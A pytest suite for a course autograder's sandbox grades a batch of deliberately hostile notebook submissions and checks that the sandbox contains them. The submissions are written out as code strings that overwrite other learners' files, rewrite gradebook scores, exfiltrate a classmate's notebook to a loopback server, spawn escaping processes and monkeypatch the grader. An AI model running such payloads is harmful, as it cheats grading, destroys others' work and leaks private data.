"""Hostile, broken and damaged submissions, graded as one class through the CLI.

Every case starts from a released exercise filled in with the course's solutions (full marks,
``autograder.builder.synthetic``), then breaks one thing. Cases rotate over every chapter. The whole
class is graded by one ``grade-all --jobs 2`` run, in the sandbox (the CLI's default); each
case must get exactly its expected score, the honest learners theirs, the batch must finish
in bounded time, and the gradebook must hold exactly the graded submissions. One case tries
to reach out of its sandbox (the home folders, another learner's notebook, the class's
database, a server on the loopback, a process left behind): nothing outside may change.
"""

from __future__ import annotations

import copy
import csv
import json
import re
import subprocess
import sys
import time
import uuid
from dataclasses import dataclass, field
from pathlib import Path

import nbformat
import pytest
from conftest import CHAPTERS
from loopback import recording_server
from nbgrader.api import Gradebook

from autograder.builder import synthetic
from autograder.host.chapters import EXERCISES
from autograder.host.gradebook import COURSE_ID

pytestmark = pytest.mark.pipeline

BY_NUMBER = {c.number: c for c in CHAPTERS}


def _nb(path: Path) -> nbformat.NotebookNode:
    return nbformat.read(path, as_version=4)


def _grade_cells(notebook) -> list:
    return [c for c in notebook.cells if c.metadata.get("nbgrader", {}).get("grade")]


def full_marks(number: str) -> float:
    return sum(c.metadata["nbgrader"]["points"] for c in _grade_cells(_nb(
        BY_NUMBER[number].source)))


def solved(number: str) -> nbformat.NotebookNode:
    return synthetic.solved(BY_NUMBER[number])


def broken(number: str, code: str, wrong_answer: bool = False) -> nbformat.NotebookNode:
    return synthetic.broken(BY_NUMBER[number], code, wrong_answer)


def _fake_outputs(number: str) -> nbformat.NotebookNode:
    notebook = _nb(EXERCISES / f"{BY_NUMBER[number].name}.ipynb")  # stubs: nothing solved
    for cell in _grade_cells(notebook):
        cell.outputs = [nbformat.v4.new_output("stream", name="stdout", text="passes\n")]
        cell.execution_count = 1
    return notebook


def _edited(number: str, edit) -> nbformat.NotebookNode:
    notebook = solved(number)
    edit(notebook)
    return notebook


def _crashes_when_called(number: str) -> nbformat.NotebookNode:
    """Solved, but the last TODO's function kills the kernel when a test calls it (the
    cell defining it runs fine): the crash is in a test cell, which nbgrader restores, so
    it is traced to that TODO's answer."""
    notebook = solved(number)
    cell = [c for c in notebook.cells if c.metadata.get("nbgrader", {}).get("solution")][-1]
    name = re.search(r"^def (\w+)\(", cell.source, re.M).group(1)
    cell.source = f"def {name}(*args, **kwargs):\n    import ctypes\n\n" \
        "    return ctypes.string_at(0)\n"
    return notebook


def _drop_first_test(notebook) -> None:
    first = _grade_cells(notebook)[0]
    notebook.cells = [c for c in notebook.cells if c is not first]


def _empty_tests(notebook) -> None:
    for cell in _grade_cells(notebook):
        cell.source = "pass"


def _tests_last(notebook) -> None:
    tests = _grade_cells(notebook)
    notebook.cells = [c for c in notebook.cells if c not in tests] + tests


def _inflate_points(notebook) -> None:
    for cell in _grade_cells(notebook):
        cell.metadata["nbgrader"]["points"] = 100


def _rename_first_test(notebook) -> None:
    _grade_cells(notebook)[0].metadata["nbgrader"]["grade_id"] = "test_free_points"


def _ungrade_tests(notebook) -> None:
    for cell in _grade_cells(notebook):
        cell.metadata["nbgrader"].update(grade=False, locked=False, points=0)
        cell.source = "pass"


def _unlock_everything(notebook) -> None:
    for cell in notebook.cells:
        if cell.metadata.get("nbgrader", {}).get("locked"):
            cell.metadata["nbgrader"]["locked"] = False
            cell.source = "pass"


def _duplicate_tests(notebook) -> None:
    doubled = []
    for cell in notebook.cells:
        doubled.append(cell)
        if cell.metadata.get("nbgrader", {}).get("grade"):
            doubled.append(copy.deepcopy(cell))
    notebook.cells = doubled


def _huge(number: str) -> nbformat.NotebookNode:
    """50 MB of (fake) output in an added cell: nbgrader clears outputs before running."""
    notebook = solved(number)
    blob = nbformat.v4.new_code_cell("print('done')")
    blob.outputs = [nbformat.v4.new_output("stream", name="stdout", text="x" * 50_000_000)]
    notebook.cells.append(blob)
    return notebook


_WRITES_AROUND = '''
import glob
import pathlib

# where the class's database and the other learners' notebooks sit in a shared nbgrader course
for pattern in ["../../../*.db", "../../../*/*/*/*.ipynb", "../../../*.py"]:
    for path in glob.glob(pattern):
        pathlib.Path(path).write_text("overwritten by a learner")
'''

# Processes that try to outlive grading: one in a session of its own, one double-forked.
ESCAPE_MARKER = "kv-course-escapee"
_ESCAPES = f'''
import os
import subprocess
import sys

subprocess.Popen([sys.executable, "-c", "import time; time.sleep(3600)", "{ESCAPE_MARKER}"],
                 start_new_session=True)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(3600)",
                                  "{ESCAPE_MARKER}"])
    os._exit(0)
'''

# Reaches out of its own folder, as far as the grading user could: writes into the home
# folders, reads another learner's notebook in the same batch (and shows what it read in its
# own output, which its feedback page shows), raises every score in the class's database and
# adds a learner (its name spelled so that the static scan does not flag it), calls a server
# on the loopback, and leaves a process in a session of its own that writes a moment later.
_BREAKS_OUT = '''
import os
import pathlib
import socket
import sqlite3
import subprocess
import sys

found = ""
try:
    found = pathlib.Path({other!r}).read_text()
    pathlib.Path({other!r}).write_text("overwritten by another learner")
except OSError:
    pass
print(found[-3000:])
for folder in [pathlib.Path.home(), os.environ["HOME"], "/root", {home!r}, "/tmp", {leaks!r}]:
    try:
        pathlib.Path(folder, {marker!r}).write_text(found or "nothing found")
    except OSError:
        pass
try:
    database = sqlite3.connect("file:" + {folder!r} + "/grade" + "book.db?mode=rw", uri=True)
    database.execute("update grade set manual_score = 100")
    database.execute("insert into student (id) values ('planted-by-a-learner')")
    database.commit()
except sqlite3.Error:
    pass
try:
    socket.create_connection(("127.0.0.1", {port}), timeout=5).sendall(found[-100:].encode())
except OSError:
    pass
later = "import pathlib, time; time.sleep(1); pathlib.Path({leaks!r}, 'later').touch(); " \\
    "time.sleep(3600)"
subprocess.Popen([sys.executable, "-c", later, "{escapee}"], start_new_session=True)
'''


# Raises its own grades in whatever database it can find: the gradebook nbgrader is writing
# its grades into, wherever it lies within reach (nbgrader creates the grade rows before the
# notebook runs and never overwrites a manual score).
_REWRITES_GRADES = '''
import glob
import os
import sqlite3

places = ["/tmp/**/*.db", os.path.expanduser("~") + "/**/*.db", "../../../**/*.db"]
for path in {found for place in places for found in glob.glob(place, recursive=True)}:
    try:
        database = sqlite3.connect(path)
        database.execute("update grade set manual_score = 100, auto_score = 100")
        database.commit()
    except sqlite3.Error:
        pass
'''


_OBFUSCATED_PATCH = '''
import importlib
checks = importlib.import_module("autogr" + "ader.checks.ch01")
for name in dir(checks):
    if name.startswith("check_"):
        setattr(checks, name, lambda *args, **kwargs: None)
'''


@dataclass
class Outside:
    """What a submission must not reach, and where its attempts would show."""

    folder: Path  # the class: uploads, gradebook, feedback, state
    home: Path  # the grading user's own home folder
    leaks: Path  # a folder of the host, named to the notebook, where it writes what it got
    port: int  # a server on the host's loopback
    connections: list[str]  # who connected to it
    marker: str = field(default_factory=lambda: f"kv-course-escape-{uuid.uuid4().hex[:12]}")
    secret: str = field(default_factory=lambda: f"kv-course-secret-{uuid.uuid4().hex[:12]}")
    other_bytes: bytes = b""  # the other learner's file as handed in

    @property
    def other(self) -> Path:
        """The other learner's notebook the escaping one goes for."""
        return self.folder / "uploads" / "honest-01" / f"{BY_NUMBER['01'].name}.ipynb"

    def marked(self) -> list[Path]:
        """Every place outside the sandbox the escaping notebook writes its marker."""
        return [folder / self.marker for folder in (self.home, Path("/root"), Path("/tmp"),
                                                    self.leaks)]


def _with_secret(notebook: nbformat.NotebookNode, secret: str) -> nbformat.NotebookNode:
    notebook.cells.append(nbformat.v4.new_markdown_cell(f"Only I know this: {secret}"))
    return notebook


def _breaks_out(outside: Outside) -> nbformat.NotebookNode:
    code = _BREAKS_OUT.format(other=str(outside.other), home=str(outside.home),
                              leaks=str(outside.leaks), marker=outside.marker,
                              folder=str(outside.folder), port=outside.port,
                              escapee=ESCAPE_MARKER)
    return _edited("01", lambda nb: nb.cells.insert(3, nbformat.v4.new_code_cell(code)))


def cases(outside: Outside) -> dict[str, tuple[str, nbformat.NotebookNode | bytes, float | None]]:
    """learner -> (file name, contents, expected score; None: refused with an error line)."""
    f = {number: full_marks(number) for number in BY_NUMBER}
    name = {number: f"{chapter.name}.ipynb" for number, chapter in BY_NUMBER.items()}
    # honest learners in the chapters hostile cases share most (every chapter's solution is
    # graded on its own in tests/test_grading.py); the first keeps a secret in its notebook
    honest = {f"honest-{n}": (name[n], solved(n), f[n]) for n in ("01", "04", "06", "08")}
    honest["honest-01"] = (name["01"], _with_secret(solved("01"), outside.secret), f["01"])
    hostile = {
        "endless-loop": (name["01"], broken("01", "while True:\n    pass\n"), f["01"] - 3),
        "long-sleep": (name["02"], broken("02", "import time\ntime.sleep(3600)\n"),
                       f["02"] - 3),
        "sys-exit": (name["06"], broken("06", "import sys\nsys.exit()\n"), f["06"] - 3),
        "os-exit": (name["08"], broken("08", "import os\nos._exit(0)\n"), f["08"] - 3),
        "keyboard-interrupt": (name["07"], broken("07", "raise KeyboardInterrupt\n"),
                               f["07"] - 3),
        "segfault": (name["01"], broken("01", "import ctypes\nctypes.string_at(0)\n"),
                     f["01"] - 3),
        "segfault-in-its-test": (name["01"], _crashes_when_called("01"), f["01"] - 3),
        "memory-bomb": (name["02"], broken("02", "hoard = bytearray(64 * 2**30)\n"),
                        f["02"] - 3),
        "output-flood": (name["06"], broken("06", "for i in range(300_000):\n"
                                                  "    print('flood', i)\n"), f["06"] - 3),
        "deleted-test": (name["03"], _edited("03", _drop_first_test), f["03"]),
        "emptied-tests": (name["04"], _edited("04", _empty_tests), f["04"]),
        "reordered-tests": (name["05"], _edited("05", _tests_last), f["05"]),
        "inflated-points": (name["01"], _edited("01", _inflate_points), f["01"]),
        "renamed-test": (name["02"], _edited("02", _rename_first_test), f["02"]),
        "tests-ungraded-and-unlocked": (name["05"], _edited("05", _ungrade_tests), f["05"]),
        "unlocked-cells": (name["06"], _edited("06", _unlock_everything), f["06"]),
        "duplicated-tests": (name["09"], _edited("09", _duplicate_tests), f["09"]),
        "fake-outputs": (name["08"], _fake_outputs("08"), 0.0),
        "patched-checks": (name["01"], broken("01", _OBFUSCATED_PATCH, wrong_answer=True),
                           f["01"] - 3),
        "rewrites-its-grades": (name["01"], broken("01", _REWRITES_GRADES, wrong_answer=True),
                                f["01"] - 3),
        "named-the-grader": (name["01"], broken(
            "01", "from autograder.checks import ch01\n\nch01.__dict__.clear()\n",
            wrong_answer=True), 0.0),
        "patched-torch": (name["06"], broken(
            "06", "import torch\ntorch.allclose = lambda *a, **k: True\n\n"
                  "def decode_step(query, *args):\n    return torch.zeros_like(query)\n"),
            f["06"] - 3),
        "writes-everywhere": (name["04"], _edited("04", lambda nb: nb.cells.insert(
            3, nbformat.v4.new_code_cell(_WRITES_AROUND))), f["04"]),
        "old-nbformat": (name["05"], nbformat.writes(
            nbformat.v4.downgrade(solved("05")), version=3).encode(), f["05"]),
        "wrong-chapter": (name["02"], solved("01"), None),
        "own-session": (name["01"], _edited("01", lambda nb: nb.cells.insert(
            3, nbformat.v4.new_code_cell(_ESCAPES))), f["01"]),
        "breaks-out": (name["01"], _breaks_out(outside), f["01"]),
        "fifty-megabytes": (name["08"], _huge("08"), f["08"]),
        "corrupt-json": (name["03"], b'{"cells": [', None),
        "empty-file": (name["04"], b"", None),
    }
    return honest | hostile


@pytest.fixture(scope="module")
def outside(tmp_path_factory):
    folder = tmp_path_factory.mktemp("class")
    (folder / "leaks").mkdir()
    with recording_server() as (port, connections):
        reach = Outside(folder, Path.home(), folder / "leaks", port, connections)
        yield reach
    for path in reach.marked():  # where the sandbox failed: leave no marker behind
        path.unlink(missing_ok=True)


@pytest.fixture(scope="module")
def graded(outside):
    folder = outside.folder
    expected = {}
    for learner, (file_name, contents, score) in cases(outside).items():
        path = folder / "uploads" / learner / file_name
        path.parent.mkdir(parents=True)
        if isinstance(contents, bytes):
            path.write_bytes(contents)
        else:
            nbformat.write(contents, path)
        expected[learner] = score
    outside.other_bytes = outside.other.read_bytes()
    started = time.monotonic()
    done = subprocess.run(
        [sys.executable, "-m", "autograder", "grade-all", "uploads", "--jobs", "2",
         "--cell-timeout", "15", "--notebook-timeout", "300", "--json", "results.json"],
        cwd=folder, capture_output=True, text=True, timeout=3000)
    return folder, done, expected, time.monotonic() - started


def test_every_case_gets_exactly_its_score(graded):
    folder, done, expected, _ = graded
    results = {r["learner"]: r for r in json.loads((folder / "results.json").read_text())}
    assert set(results) == set(expected)  # every file has an entry, under its learner
    got = {learner: r["score"] if r["status"] == "graded" else None
           for learner, r in results.items()}
    lost = {learner: [(t["id"], t["message"]) for t in results[learner]["tests"]
                      if not t["passed"]]
            for learner in expected if learner in results and got[learner] != expected[learner]}
    assert got == expected, (f"tests lost where the score differs: {lost}; not graded: "
                             f"{ {k: results[k]['error'] for k, v in got.items() if v is None} }; "
                             f"grade-all said: {done.stderr[-3000:]}")


def test_refused_files_get_one_error_line_and_the_batch_goes_on(graded):
    _, done, expected, _ = graded
    refused = [learner for learner, score in expected.items() if score is None]
    errors = [line for line in done.stderr.splitlines() if line.startswith("error:")]
    assert len(errors) == len(refused)
    for learner in refused:
        assert any(f"/{learner}/" in line for line in errors)
    assert done.returncode == 1  # some files could not be graded, and the run says so


def test_every_file_has_one_row_and_the_gradebook_exactly_the_graded_ones(graded):
    folder, _, expected, _ = graded
    with open(folder / "grades.csv", newline="") as handle:
        rows = [row for row in csv.DictReader(handle) if row["file"]]  # one per file handed in
    assert sorted(r["student_id"] for r in rows) == sorted(expected)
    assert {r["student_id"]: float(r["score"]) for r in rows if r["status"] == "graded"} == \
        {learner: score for learner, score in expected.items() if score is not None}
    assert {r["student_id"] for r in rows if r["status"] == "not graded"} == \
        {learner for learner, score in expected.items() if score is None}
    state = json.loads((folder / "grading-state.json").read_text())
    assert len(state) == sum(score is not None for score in expected.values())


def test_the_batch_finishes_in_bounded_time(graded):
    *_, seconds = graded
    assert seconds < 1500, f"the class took {seconds:.0f} s"


def test_feedback_pages_show_hints_but_not_hidden_tests(graded):
    folder, *_ = graded
    chapter = BY_NUMBER["01"].name
    page = (folder / "feedback" / "endless-loop" / chapter / f"{chapter}.html").read_text()
    assert "ran past its time limit" in page or "CellTimeoutError" in page or "FAILED" in page
    assert "BEGIN HIDDEN TESTS" not in page and "_thoroughly(" not in page
    # no traceback (the page's style sheet names Pygments' Generic.Traceback: not one)
    assert "Traceback (most recent call last)" not in page and "output_error" not in page


def test_nothing_a_submission_started_is_still_running(graded):
    running = []
    for entry in Path("/proc").iterdir():
        try:
            command = (entry / "cmdline").read_bytes()
        except OSError:  # not a process, or it ended while we looked
            continue
        if ESCAPE_MARKER.encode() in command:
            running.append(command.replace(b"\0", b" ").decode())
    assert running == []


def test_a_notebook_reaches_nothing_outside_its_sandbox(graded, outside):
    folder, _, expected, _ = graded
    # its own TODOs were still graded, in full
    results = {r["learner"]: r for r in json.loads((folder / "results.json").read_text())}
    assert results["breaks-out"]["score"] == expected["breaks-out"]
    # no marker in the grading user's home, in /root or the host's /tmp, nothing in the
    # folder it was told of, not even from the process it left behind
    assert not [path for path in outside.marked() if path.exists()]
    assert list(outside.leaks.iterdir()) == []
    # the other learner's notebook is as handed in, and its secret was not read: not in the
    # escaping learner's feedback page, where its own output shows
    assert outside.other.read_bytes() == outside.other_bytes
    chapter = BY_NUMBER["01"].name
    page = (folder / "feedback" / "breaks-out" / chapter / f"{chapter}.html").read_text()
    assert "kv_bytes_per_token" in page and outside.secret not in page
    assert outside.secret not in json.dumps(results["breaks-out"])
    # the server on the loopback saw no connection
    assert outside.connections == []


def test_the_class_database_holds_exactly_the_graded_scores(graded):
    """Read with nbgrader's own API: every graded learner's score as expected, every refused
    hand-in recorded as nbgrader's autograde records a notebook it fails on (a submission
    waiting for manual grading), and no learner but those handed in."""
    folder, _, expected, _ = graded
    with Gradebook(f"sqlite:///{folder / 'gradebook.db'}", COURSE_ID) as book:
        scores = {s.student_id: s.score for a in book.assignments for s in a.submissions}
        waiting = {s.student_id for a in book.assignments for s in a.submissions
                   if s.needs_manual_grade}
        learners = {student.id for student in book.students}
    refused = {learner for learner, score in expected.items() if score is None}
    assert {learner: score for learner, score in scores.items() if learner not in refused} \
        == {learner: score for learner, score in expected.items() if score is not None}
    assert refused <= waiting and set(scores) == set(expected)
    assert learners == set(expected)
